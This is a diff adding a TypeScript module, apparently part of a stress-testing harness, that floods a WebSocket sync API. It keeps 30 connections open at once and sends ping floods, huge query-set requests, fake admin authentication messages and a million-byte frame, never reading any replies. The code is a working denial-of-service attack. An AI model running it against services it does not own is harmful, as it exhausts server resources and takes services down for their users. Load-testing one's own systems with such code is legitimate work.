@@ -1,0 +1,80 @@
+/** WebSockets that send pings, questions and thousands of queries at once, and read nothing. */
+import { randomBytes } from "node:crypto";
+import type { Attack } from "./attack";
+import { open, sent } from "./connections";
+
+/** At a time. */
+const SIDES = 30;
+const FRAMES = 200;
+
+const handshake = () =>
+  "GET /api/1.48.0/sync HTTP/1.1\r\nHost: api.example.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" +
+  `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString("base64")}\r\n\r\n`;
+
+const PING = 9;
+const TEXT = 1;
+
+/** A frame as a client sends it, masked with zeros. */
+function frame(opcode: number, text: string): Buffer {
+  const payload = Buffer.from(text);
+  const size = Buffer.alloc(payload.length < 126 ? 1 : 9);
+  if (size.length === 1) size[0] = 0x80 | payload.length;
+  else {
+    size[0] = 0x80 | 127;
+    size.writeBigUInt64BE(BigInt(payload.length), 1);
+  }
+  return Buffer.concat([Buffer.from([0x80 | opcode]), size, Buffer.alloc(4), payload]);
+}
+
+/** Asks for so many queries in one message. */
+function question(count: number): string {
+  const modifications = Array.from({ length: count }, (_, queryId) => ({
+    ...{ type: "Add", queryId, udfPath: "_system/cli/tables", args: [{}] },
+  }));
+  return JSON.stringify({ type: "ModifyQuerySet", baseVersion: 0, newVersion: 1, modifications });
+}
+
+const authenticate = { type: "Authenticate", tokenType: "Admin", baseVersion: 0, value: "wrong" };
+
+/** What the sides send, again and again. */
+const FLOODS: readonly Buffer[] = [
+  repeated(frame(PING, "p".repeat(125)), FRAMES),
+  repeated(frame(TEXT, question(1)), FRAMES),
+  repeated(frame(TEXT, question(500)), 4),
+  repeated(frame(TEXT, JSON.stringify(authenticate)), FRAMES),
+  frame(TEXT, question(18_000).slice(0, 1_000_000)),
+  repeated(frame(TEXT, "{}"), 20_000),
+];
+
+function repeated(bytes: Buffer, count: number): Buffer {
+  return Buffer.concat(Array.from({ length: count }, () => bytes));
+}
+
+export const webSockets: Attack = {
+  name: "webSockets",
+  about: `${SIDES} WebSockets at a time that send on and on and read nothing`,
+  async run({ apiUrl }, until) {
+    let connections = 0;
+    let bytes = 0;
+    const opened = new Set<ReturnType<typeof open>>();
+    const side = async (first: number) => {
+      for (let i = first; performance.now() < until; i++) {
+        const socket = open(apiUrl);
+        opened.add(socket);
+        connections++;
+        const flood = FLOODS[i % FLOODS.length] as Buffer;
+        await sent(socket, handshake());
+        // The answers are not read: they wait in this system, then in the server.
+        while (performance.now() < until && (await sent(socket, flood))) bytes += flood.length;
+        socket.destroy();
+        opened.delete(socket);
+      }
+    };
+    const end = setTimeout(() => {
+      for (const socket of opened) socket.destroy();
+    }, until - performance.now());
+    await Promise.all(Array.from({ length: SIDES }, (_, i) => side(i)));
+    clearTimeout(end);
+    return { connections, megabytes: Math.round(bytes / 1e6) };
+  },
+};
